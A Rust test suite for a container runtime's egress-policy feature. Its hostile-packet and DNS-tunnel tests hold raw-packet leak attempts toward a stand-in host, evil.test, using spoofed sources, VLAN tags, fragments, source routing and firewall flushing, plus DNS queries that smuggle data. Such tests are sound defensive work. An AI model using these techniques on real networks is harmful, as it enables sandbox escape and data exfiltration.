//! Egress policies, each test on a machine of its own: beyond the uplink are a host that the policy allows by its name, one
//! that it does not, and a server of DNS that writes down what it is asked.

use super::networks::{NEEDS, on_machine_of};
use crate::context::Context;
use crate::promise::{Test, test};
use anyhow::{Result, ensure};

pub(super) const TESTS: &[Test] = &[
    test("egress::allowed_names_are_reached_and_nothing_else", NEEDS, names),
    test(
        "egress::addresses_are_open_where_they_are_named",
        NEEDS,
        addresses,
    ),
    test(
        "egress::no_packet_of_a_hostile_program_leaves",
        NEEDS,
        hostile_packets,
    ),
    test("egress::no_question_for_another_name_leaves", NEEDS, tunnel),
    test("egress::aliases_and_private_answers_open_nothing", NEEDS, answers)
        .slow(2)
        .waits(),
    test("egress::members_of_networks_are_not_reached", NEEDS, members),
    test("egress::answers_to_clients_find_their_way", NEEDS, clients),
    test("egress::flushed_rules_are_there_again_at_once", NEEDS, flushed),
    test("egress::a_policy_lasts_and_leaves_nothing_behind", NEEDS, lasts),
    test("egress::refusals_are_noted_and_have_a_bound", NEEDS, noted),
    test("egress::it_is_refused_where_it_would_not_hold", NEEDS, refused),
];

/// The server's namespace has 198.51.100.9, which is `good.test`, and 198.51.100.8, which is `evil.test`. On both, port 80 tells
/// the client's address, and what comes to UDP port 443 is written down.
const WORLD: &str = r#"
in_server ip addr add 198.51.100.8/24 dev s0
printf 'nameserver 198.51.100.9\n' > "$FILE.resolv"
mount --bind "$FILE.resolv" /etc/resolv.conf
cat > "$FILE.dns" <<'END'
use IO::Socket::INET; $| = 1; $s = IO::Socket::INET->new(Proto => "udp", LocalPort => 53) or die;
sub name { join("", map { pack("C/a*", $_) } split /\./, shift) . "\0" }
%address = ("good.test" => "198.51.100.9", "evil.test" => "198.51.100.8", "a.wild.test" => "198.51.100.9", "host.test" => "198.51.100.2",
  "metadata.test" => "169.254.169.254", "rebind.test" => "198.51.100.9", "private.test" => "192.168.77.10");
%alias = ("alias.test" => "evil.test", "b.wild.test" => "a.wild.test", "c.wild.test" => "evil.test");
while ($s->recv($m, 4096)) { ($q) = $m =~ /^.{12}(.*?\0)/s; $kind = unpack "n", substr $m, 12 + length $q;
  $rest = $q; @l = (); while (length $rest > 1) { $n = unpack "C", $rest; push @l, substr $rest, 1, $n; $rest = substr $rest, $n + 1 }
  $at = join ".", @l; print $at, $kind == 1 || $kind == 28 ? "\n" : " kind $kind\n"; $at = lc $at; ($answer, $count, $own) = ("", 0, "\xc0\x0c");
  $address{$at} = $rebound++ ? "192.168.77.10" : "198.51.100.9" if $at eq "rebind.test" && $kind == 1;
  if ($alias{$at}) { $own = name($at = $alias{$at}); $answer = "\xc0\x0c" . pack("nnNn", 5, 1, 30, length $own) . $own; $count++ }
  if ($address{$at} && $kind == 1) { $answer .= $own . pack("nnNn", 1, 1, 1, 4) . join "", map chr, split /\./, $address{$at}; $count++ }
  $s->send(substr($m, 0, 2) . ($address{$at} ? "\x81\x80" : "\x81\x83") . "\0\1" . pack("n", $count) . "\0\0\0\0" . substr($m, 12, 4 + length $q) . $answer) }
END
nsenter -t $server -n perl "$FILE.dns" > "$FILE.asked" 2>&1 & teller="$teller $!"
nsenter -t $server -n perl -MIO::Socket::INET -e '$| = 1; $s = IO::Socket::INET->new(Proto => "udp", LocalPort => 443) or die;
while ($s->recv($m, 4096)) { print "$m\n"; $s->send("heard") }' > "$FILE.quic" 2>&1 & teller="$teller $!"
while ! in_server grep -q ':0035 00000000:0000 07' /proc/net/udp || ! in_server grep -q ':01BB 00000000:0000 07' /proc/net/udp; do sleep 0.02; done
# The image of the tests has neither getent nor perl.
STEPS=$IMAGE
IMAGE=host
# Prints the answer of a connection, or the reason why there is none; a refusal comes within a second, far below the time limit.
TRY='for to in "$@"; do echo "$to $(timeout 5 perl -MIO::Socket::INET -MTime::HiRes=time -e '\''
($host, $port, $proto) = split /:/, shift; $port ||= 80; $begin = time;
$s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => $proto || "tcp") or $why = $@ =~ /Bad hostname|not known/ ? "no such name" : lc $!;
if ($s && $proto eq "udp") { $s->send("hello from " . $s->sockhost); $s->recv($m, 99) // ($why = lc $!); $why ||= $m } elsif ($s) { $why = <$s>; chomp $why }
print $why, time - $begin < 1 ? "" : " late"'\'' "$to")"; done'
try() { "$@"; }
none_left() { nft list tables | grep netdev || true; }
"#;

/// Runs a script that is to print these lines.
pub(super) fn prints(cx: &Context, script: &str, lines: &str) -> Result<()> {
    let whole = format!("{WORLD}{script}\ntote rm -fa >/dev/null\nnone_left\n");
    let out = on_machine_of(cx, &["--net", "--mount"], &whole)?;
    ensure!(out.code == 0 && out.out() == lines, "{}", out.transcript());
    cx.nothing_left()
}

fn names(cx: &Context) -> Result<()> {
    let script = r#"
tote run --rm --egress 'allow:good.test:80,*.wild.test' "$IMAGE" sh -c "$TRY" - good.test GOOD.test good.test:443:udp a.wild.test:443:udp a.wild.test wild.test evil.test 198.51.100.8
# The name opens its address for its ports alone, and the file says the same as the option.
printf '# what it needs\nudp:good.test:443 # QUIC\n' > "$FILE.list"
tote run --rm --egress "@$FILE.list" "$IMAGE" sh -c "$TRY" - good.test good.test:443:udp
tote run --rm --egress none "$IMAGE" sh -c "$TRY" - good.test 198.51.100.9
tote run --rm "$IMAGE" sh -c "$TRY" - 198.51.100.8
# Every name was asked for by somebody who may.
sort -u "$FILE.asked"
"#;
    let lines = "\
good.test 198.51.100.2
GOOD.test 198.51.100.2
good.test:443:udp no route to host
a.wild.test:443:udp heard
a.wild.test 198.51.100.2
wild.test no such name
evil.test no such name
198.51.100.8 connection refused
good.test connection refused
good.test:443:udp heard
good.test no such name
198.51.100.9 connection refused
198.51.100.8 network is unreachable
a.wild.test
good.test
";
    prints(cx, script, lines)
}

fn addresses(cx: &Context) -> Result<()> {
    let script = r#"
in_server ip addr add 169.254.169.254/32 dev s0
in_server ip addr add 10.1.0.9/32 dev s0
try() { policy=$1; shift; tote run --rm --egress "$policy" "$IMAGE" sh -c "$TRY" - "$@"; }
try allow:198.51.100.8:80,udp:198.51.100.9 198.51.100.8 198.51.100.8:443:udp 198.51.100.9 198.51.100.9:443:udp
try allow:10.1.0.0/16 10.1.0.9 10.2.0.9 198.51.100.9
# Everything does not mean what surrounds the machine, nor the machine.
perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 9, LocalPort => 80, ReuseAddr => 1) or die; while ($c = $s->accept) { print $c "machine\n"; close $c }' & teller="$teller $!"
while ! grep -q ':0050 00000000:0000 0A' /proc/net/tcp; do sleep 0.02; done
try allow:0.0.0.0/0 198.51.100.9 10.1.0.9 169.254.169.254 198.51.100.2 10.210.0.1
try allow:169.254.169.254,198.51.100.2,10.210.0.1:80 169.254.169.254 198.51.100.2 10.210.0.1
"#;
    let lines = "\
198.51.100.8 198.51.100.2
198.51.100.8:443:udp no route to host
198.51.100.9 connection refused
198.51.100.9:443:udp heard
10.1.0.9 198.51.100.2
10.2.0.9 connection refused
198.51.100.9 connection refused
198.51.100.9 198.51.100.2
10.1.0.9 connection refused
169.254.169.254 connection refused
198.51.100.2 connection refused
10.210.0.1 connection refused
169.254.169.254 198.51.100.2
198.51.100.2 machine
10.210.0.1 machine
";
    prints(cx, script, lines)
}

/// A program with all rights over its network namespace, and raw and packet sockets. The server's link counts what arrives.
fn hostile_packets(cx: &Context) -> Result<()> {
    let script = r#"
nsenter -t $server -n nft -f - <<'END'
table netdev count { chain in { type filter hook ingress device "s0" priority 0
ip daddr 198.51.100.8 counter
ip6 daddr 2001:db8::/32 counter
ether type 0x1234 counter
ip saddr 203.0.113.9 counter
}
}
END
cat > "$FILE.hostile" <<'END'
sub checksum { my ($n, $sum) = (shift, 0); $sum += $_ for unpack "n*", $n . "\0" x (length($n) % 2); $sum = ($sum >> 16) + ($sum & 0xffff) for 1, 2; ~$sum & 0xffff }
sub ip { my ($from, $to, $protocol, $data, $options, $fragment) = @_; my $words = 5 + length($options) / 4;
  my $head = pack "CCnnnCCna4a4", 0x40 | $words, 0, 4 * $words + length $data, 7, $fragment, 64, $protocol, 0, inet_aton($from), inet_aton($to);
  substr $head, 10, 2, pack "n", checksum($head . $options); $head . $options . $data }
sub udp { pack("nnnn", 5000, 443, 8 + length $_[0], 0) . $_[0] }
sub tcp { my ($flags, $data) = @_; pack "nnNNCCnnna*", 5000, 443, 1, 1, 0x50, $flags, 1024, 0, 0, $data }
sub binary { join "", map { chr hex } split /:/, shift }
sub line { open my $file, shift; chomp(my $line = <$file>); $line }
($own) = `ip -4 -o addr show eth0` =~ /inet ([0-9.]+)/; ($gateway) = `ip route` =~ /default via (\S+)/;
system "busybox ping -c 1 -W 1 $gateway >/dev/null"; ($mac) = `ip neigh show $gateway` =~ /lladdr (\S+)/ or die "no neighbour";
($to, $from, $index) = (binary($mac), binary(line("/sys/class/net/eth0/address")), line("/sys/class/net/eth0/ifindex"));
socket my $packets, 17, SOCK_RAW, 0x0300 or die "no packet socket";
sub frame { my ($type, $data, $source) = @_;
  send $packets, $to . ($source || $from) . pack("n", $type) . $data, 0, pack("SnlSCC", 17, $type, $index, 1, 0, 6) . $to . "\0\0" or print "not sent: $!\n" }
$evil = "198.51.100.8";
socket my $raw, AF_INET, SOCK_RAW, 255 or die; send $raw, ip($own, $evil, 17, udp("leak")), 0, sockaddr_in(0, inet_aton($evil));
for (1 .. 2) {
  frame(0x800, ip($own, $evil, 17, udp("leak"))); frame(0x800, ip($own, $evil, 6, tcp($_, "leak"))) for 2, 16, 18, 4;
  frame(0x800, ip($own, $evil, 1, "$_\0\0\0leak")) for "\0", "\3", "\10"; frame(0x800, ip($own, $evil, $_, "leak")) for 47, 41, 132;
  # Fragments: one without ports, and one that is the last.
  frame(0x800, ip($own, $evil, 17, "leak" x 4, "", 0x2001)); frame(0x800, ip($own, $evil, 17, "leak" x 4, "", 1));
  # Somebody else, by other hardware, by a VLAN, by a route in the options, and by other protocols.
  frame(0x800, ip("203.0.113.9", "198.51.100.9", 17, udp("leak"))); frame(0x800, ip($own, $evil, 17, udp("leak")), "\2" x 6);
  frame(0x8100, pack("nn", 0, 0x800) . ip($own, $evil, 17, udp("leak")));
  frame(0x88a8, pack("nnnn", 0, 0x8100, 0, 0x800) . ip($own, $evil, 17, udp("leak")));
  frame(0x800, ip($own, "198.51.100.9", 17, udp("leak"), "\x83\7\4" . inet_aton($evil) . "\1"));
  frame(0x86dd, pack("NnCC", 0x60000000, 12, 17, 64) . "\xfd" . "\1" x 15 . "\x20\1\xd\xb8" . "\2" x 12 . udp("leak")); frame(0x1234, "leak");
}
# Rules, routes and addresses of its own change nothing.
system "nft flush ruleset; ip addr add 203.0.113.9/32 dev eth0; ip -6 addr add 2001:db8::2/64 dev eth0 nodad 2>/dev/null; ip -6 route add default dev eth0 2>/dev/null; ip route add $evil dev eth0 onlink via $gateway";
for ("0.0.0.0", "203.0.113.9") { socket my $udp, AF_INET, SOCK_DGRAM, 0; bind $udp, sockaddr_in(0, inet_aton($_)); send $udp, "leak", 0, sockaddr_in(443, inet_aton($evil)) }
print "done\n"
END
count() { nsenter -t $server -n nft list table netdev count | grep -o 'packets [0-9]*'; }
hostile() { tote run --rm --cap-add NET_ADMIN --cap-add NET_RAW --security-opt seccomp=unconfined "$@" "$IMAGE" perl -MSocket -e "$(cat "$FILE.hostile")" 2>&1; }
hostile --egress allow:198.51.100.9:80 --network bridge; count
# Without a policy they arrive.
hostile --network bridge; count | head -n 1 | grep -c 'packets [1-9]'
"#;
    let none = "packets 0\n".repeat(4);
    prints(cx, script, &format!("done\n{none}done\n1\n"))
}

fn tunnel(cx: &Context) -> Result<()> {
    let script = r#"
tote run --rm --egress 'allow:good.test,*.wild.test' "$IMAGE" perl -MSocket -MTime::HiRes=time -e '
socket($s, PF_INET, SOCK_DGRAM, 0); connect($s, sockaddr_in(53, inet_aton("127.0.0.11")));
sub ask { my ($name, $kind, $more) = @_; my $begin = time;
  send $s, "\0\7\1\0\0\1\0\0\0\0\0" . ($more ? "\1" : "\0") . join("", map { pack "C/a*", $_ } split /\./, $name) . "\0" . pack("nn", $kind, 1) . $more, 0;
  vec(my $ready = "", fileno $s, 1) = 1; select($ready, undef, undef, 4) or return "nothing";
  recv $s, $m, 4096, 0; $own = join("", map { pack "C/a*", $_ } split /\./, $name) . "\0" . pack "nn", $kind, 1;
  (unpack("n", substr $m, 2) & 15) . (time - $begin < 0.5 ? "" : " late") . (substr($m, 12, length $own) eq $own ? "" : " of another question") }
print "$_ ", ask($_, 1), " ", ask($_, 16), "\n" for "secret.evil.test", "good.test.evil.test", "xgood.test", "test", "9.100.51.198.in-addr.arpa";
# What a question has beside its name stays here.
print "good.test ", ask("good.test", 1, "\0\0\x29\4\xd0\0\0\0\0\0\xa\xff\xf0\0\6secret"), "\n";
# So do its letters, and kinds of records that are none.
print "gOoD.tEsT ", ask("gOoD.tEsT", 1), " ", ask("good.test", 65280), " ", ask("good.test", 255), "\n"'
tote run --rm --egress allow:good.test "$IMAGE" sh -c "$TRY" - 198.51.100.9:53 198.51.100.8:53:udp
grep -v '^good.test$' "$FILE.asked" || echo nothing else
"#;
    let lines = "\
secret.evil.test 3 3
good.test.evil.test 3 3
xgood.test 3 3
test 3 3
9.100.51.198.in-addr.arpa 3 3
good.test 0
gOoD.tEsT 0 0 0
198.51.100.9:53 connection refused
198.51.100.8:53:udp no route to host
nothing else
";
    prints(cx, script, lines)
}

fn answers(cx: &Context) -> Result<()> {
    let script = r#"
in_server ip addr add 169.254.169.254/32 dev s0
in_server ip addr add 192.168.77.10/32 dev s0
try() { policy=$1; shift; tote run --rm --egress "$policy" "$IMAGE" sh -c "$TRY" - "$@"; }
try 'allow:alias.test,*.wild.test' alias.test c.wild.test b.wild.test 198.51.100.8
# Who follows aliases says so, or names where they lead.
try allow:alias:alias.test alias.test evil.test
try allow:alias.test,evil.test:443 alias.test
try allow:metadata.test,private.test,host.test metadata.test private.test host.test
try allow:private.test,192.168.77.10 private.test
# An address is open as long as the answer lasts, and a connection that is there for longer.
tote run --rm --egress allow:good.test --egress-keep 0 "$IMAGE" perl -MIO::Socket::INET -e '
$u = IO::Socket::INET->new(PeerAddr => "good.test", PeerPort => 443, Proto => "udp"); $u->send("a"); $u->recv($m, 9); print "$m\n";
for (1 .. 300) { select undef, undef, undef, 0.1; last unless IO::Socket::INET->new("198.51.100.9:80"); $open = $_ } print $open > 50 && $open < 290 ? "closed later\n" : "$open\n";
$u->send("b"); $u->recv($m, 9); print "$m\n"; print IO::Socket::INET->new("good.test:80") ? "open again\n" : "$!\n"'
"#;
    let lines = "\
alias.test no such name
c.wild.test no such name
b.wild.test 198.51.100.2
198.51.100.8 connection refused
alias.test 198.51.100.2
evil.test no such name
alias.test 198.51.100.2
metadata.test connection refused
private.test connection refused
host.test connection refused
private.test 198.51.100.2
heard
closed later
heard
open again
";
    prints(cx, script, lines)
}

fn members(cx: &Context) -> Result<()> {
    let script = r#"
tote network create --subnet 192.168.77.0/24 --ip-range 192.168.77.128/25 lab >/dev/null; tote network create --subnet 192.168.78.0/24 --ip-range 192.168.78.128/25 other >/dev/null
web() { tote run -d --network name=$1,ip=$2 --name $3 "$IMAGE" perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 9, LocalPort => 80, ReuseAddr => 1) or die;
while ($c = $s->accept) { print $c "web\n"; close $c }' >/dev/null; while ! tote exec $3 grep -q ':0050 00000000:0000 0A' /proc/net/tcp; do sleep 0.02; done; }
web lab 192.168.77.10 near; web other 192.168.78.10 far; web lab 192.168.77.11 db
tote run --rm --network lab --egress 'allow:good.test,db:80,*.lab' "$IMAGE" sh -c "$TRY" - near near.lab 192.168.77.10 192.168.77.11 db 192.168.77.1 192.168.78.10 good.test
tote run --rm --network lab --network other --egress allow:192.168.78.10 "$IMAGE" sh -c "$TRY" - near 192.168.78.10
"#;
    let lines = "\
near connection refused
near.lab connection refused
192.168.77.10 connection refused
192.168.77.11 connection refused
db web
192.168.77.1 connection refused
192.168.78.10 connection refused
good.test 198.51.100.2
near connection refused
192.168.78.10 web
";
    prints(cx, script, lines)
}

/// Clients that connect to the container get answers, and no other host does because of that.
fn clients(cx: &Context) -> Result<()> {
    let script = r#"
tote network create --subnet 192.168.77.0/24 --ip-range 192.168.77.128/25 lab >/dev/null
tote run -d -p 8080:80 -p 8443:443/udp --network name=lab,ip=192.168.77.10 --name web --egress none "$IMAGE" perl -MIO::Socket::INET -e '
if (fork) { $s = IO::Socket::INET->new(Listen => 9, LocalPort => 80, ReuseAddr => 1) or die; while ($c = $s->accept) { print $c $c->peerhost, "\n"; close $c } }
$s = IO::Socket::INET->new(Proto => "udp", LocalPort => 443) or die; while ($s->recv($m, 99)) { $s->send("heard") }' >/dev/null
while ! tote exec web grep -q ':0050 00000000:0000 0A' /proc/net/tcp || ! tote exec web grep -q ':01BB 00000000:0000 07' /proc/net/udp; do sleep 0.02; done
in_server sh -c "$TRY" - 198.51.100.2:8080 198.51.100.2:8443:udp
sh -c "$TRY" - 127.0.0.1:8080 198.51.100.2:8080 192.168.77.10
busybox ping -c 1 -W 2 192.168.77.10 >/dev/null && echo echo
tote run --rm --network name=lab,ip=192.168.77.20 "$IMAGE" sh -c "$TRY" - web 192.168.77.10:443:udp
tote exec web sh -c "$TRY" - 198.51.100.9 192.168.77.20 192.168.77.1
"#;
    let lines = "\
198.51.100.2:8080 198.51.100.9
198.51.100.2:8443:udp heard
127.0.0.1:8080 192.168.77.1
198.51.100.2:8080 198.51.100.2
192.168.77.10 192.168.77.1
echo
web 192.168.77.20
192.168.77.10:443:udp heard
198.51.100.9 connection refused
192.168.77.20 connection refused
192.168.77.1 connection refused
";
    prints(cx, script, lines)
}

fn flushed(cx: &Context) -> Result<()> {
    let script = r#"
tote run -d --name a --egress allow:good.test,198.51.100.9:443 "$IMAGE" sleep 300 >/dev/null
tote run --rm --egress allow:good.test "$IMAGE" sh -c "$TRY; nft flush ruleset 2>/dev/null; $TRY" - 198.51.100.8
tote exec a sh -c "$TRY" - good.test
rules() { nft -t list table netdev tote-$(tote inspect -f '{{slice .Id 0 12}}' a) 2>/dev/null; }
# What the kernel answers at once is what the watcher has made again; a busy machine may take a moment for it.
rules > "$FILE.before"
nft flush ruleset
while ! rules > "$FILE.after" || ! cmp -s "$FILE.before" "$FILE.after"; do sleep 0.02; done; echo as before
tote exec a sh -c "$TRY" - 198.51.100.8
# The network's own rules come with the next container; an open address is still open.
tote run --rm --network bridge "$IMAGE" true
tote exec a sh -c "$TRY" - 198.51.100.9 good.test
tote run --rm --egress allow:good.test "$IMAGE" sh -c "$TRY" - good.test
"#;
    let lines = "\
198.51.100.8 connection refused
198.51.100.8 connection refused
good.test 198.51.100.2
as before
198.51.100.8 connection refused
198.51.100.9 198.51.100.2
good.test 198.51.100.2
good.test 198.51.100.2
";
    prints(cx, script, lines)
}

fn lasts(cx: &Context) -> Result<()> {
    let script = r#"
tables() { nft list tables | grep -c netdev || true; }
printf 'good.test\n' > "$FILE.list"
tote create --name a --egress "@$FILE.list" "$IMAGE" sh -c "$TRY; sleep 300" - good.test 198.51.100.8 >/dev/null
rm "$FILE.list"; tables
tote start a >/dev/null; while [ $(tote logs a | wc -l) -lt 2 ]; do sleep 0.02; done
tables; tote restart -t 0 a >/dev/null; while [ $(tote logs a | wc -l) -lt 4 ]; do sleep 0.02; done
tote logs a; tables
tote run --rm --network container:a "$IMAGE" sh -c "$TRY" - good.test 198.51.100.8
tote stop -t 0 a >/dev/null; tables
# What a killed monitor leaves is cleared by the next command; its container ends with it.
tote start a >/dev/null; while [ $(tote logs a | wc -l) -lt 6 ]; do sleep 0.02; done
kill -9 $(tote inspect -f '{{.State.Pid}}' a | xargs -I{} awk '/^PPid/ { print $2 }' /proc/{}/status)
while tote ps -q | grep -q .; do sleep 0.02; done
tables; tote run --rm "$IMAGE" true; tables
tote run -d --rm --name b --network bridge --egress none "$IMAGE" sleep 300 >/dev/null
tote network disconnect bridge b; tables
"#;
    let lines = "\
0
1
good.test 198.51.100.2
198.51.100.8 connection refused
good.test 198.51.100.2
198.51.100.8 connection refused
1
good.test 198.51.100.2
198.51.100.8 connection refused
0
1
0
0
";
    prints(cx, script, lines)
}

fn noted(cx: &Context) -> Result<()> {
    let script = r#"
say() { tote logs --egress "$@" | sed 's/^20[0-9-]*T[0-9:.]*Z /at /; s, [0-9]*/perl$, PID/perl,; / udp /s, [^ ]*$, ANY,' | sort; }
tote run -d --name a --egress allow:good.test,alias.test "$IMAGE" sh -c "$TRY; sleep 300" - 198.51.100.8 198.51.100.8:443:udp evil.test EVIL.test alias.test good.test >/dev/null
while [ $(tote logs a | wc -l) -lt 6 ]; do sleep 0.02; done
say a | sort > "$FILE.live"; cat "$FILE.live"
tote inspect -f '{{.Egress.Policy}} {{len .Egress.Refused}}' a
tote stop -t 0 a >/dev/null
say a | cmp "$FILE.live" - && echo as before
# A socket of UDP may be closed before anybody looks; a connection and a question wait.
tote inspect -f '{{range .Egress.Refused}}{{.Protocol}} {{.Process}}
{{end}}' a | grep -c '^\(tcp\|dns\) [0-9]*/perl$'
# The next run begins anew, and nothing that a program does fills the disk.
tote run --name b --egress none "$IMAGE" perl -MSocket -e '
for $n (1 .. 2000) { socket $s, AF_INET, SOCK_DGRAM, 0; send $s, "x", 0, sockaddr_in($n, inet_aton("198.51.100.8")) }
socket $s, AF_INET, SOCK_DGRAM, 0; connect $s, sockaddr_in(53, inet_aton("127.0.0.11"));
for $n (1 .. 2000) { send $s, "\0\7\1\0\0\1\0\0\0\0\0\0" . pack("C/a*", "n$n") . "\0\0\1\0\1", 0; recv $s, $m, 999, 0 }'
say b | wc -l; say b | grep -c dns
# The list that a program would need, in the words of the option.
tote run --name c --egress log "$IMAGE" sh -c "$TRY" - good.test good.test:443:udp alias.test 198.51.100.8:53
tote logs --egress c > "$FILE.list"; cat "$FILE.list"
tote run --rm --egress "@$FILE.list" "$IMAGE" sh -c "$TRY" - good.test alias.test
tote run -d --name d "$IMAGE" sleep 300 >/dev/null
tote logs --egress d 2>&1 || echo $?
"#;
    let lines = "\
at dns alias.test=evil.test 1 -
at dns evil.test 1 PID/perl
at tcp 198.51.100.8:80 1 PID/perl
at udp 198.51.100.8:443 1 ANY
allow:good.test,alias.test 4
as before
2
1280
256
good.test 198.51.100.2
good.test:443:udp heard
alias.test 198.51.100.2
198.51.100.8:53 connection refused
alias:tcp:alias.test:53
alias:tcp:alias.test:80
tcp:good.test:80
udp:good.test:443
good.test 198.51.100.2
alias.test 198.51.100.2
tote: container d has no egress policy: nothing was refused to it
125
";
    prints(cx, script, lines)
}

fn refused(cx: &Context) -> Result<()> {
    let script = r#"
tote pod create group >/dev/null
tote run -d --name peer "$IMAGE" sleep 300 >/dev/null
says() { tote run --rm "$@" "$IMAGE" true 2>&1 | sed 's/^tote: //' || true; }
for words in '--network none' '--network host' '--network container:peer' '--pod group' '--dns 127.0.0.1' '--egress log' '--egress allow:10.1/16' '--egress @/nosuch'; do
    says --egress allow:good.test $words; done
tote pod rm -f group >/dev/null
"#;
    let cannot = "cannot hold the container to an egress policy: ";
    let out = on_machine_of(cx, &["--net", "--mount"], &format!("{WORLD}{script}"))?;
    out.exits(0)?;
    for part in [
        "with --network none it connects nowhere",
        "with --network host it has this machine's own links",
        "with --network container:NAME",
        "members of a pod share one network",
        "a server of --dns at a loopback address",
    ] {
        ensure!(
            out.out().contains(&format!("{cannot}{part}")),
            "{part}: {}",
            out.transcript()
        );
    }
    for part in ["log allows everything", "10.1/16", "/nosuch"] {
        ensure!(out.out().contains(part), "{part}: {}", out.transcript());
    }
    cx.nothing_left()
}
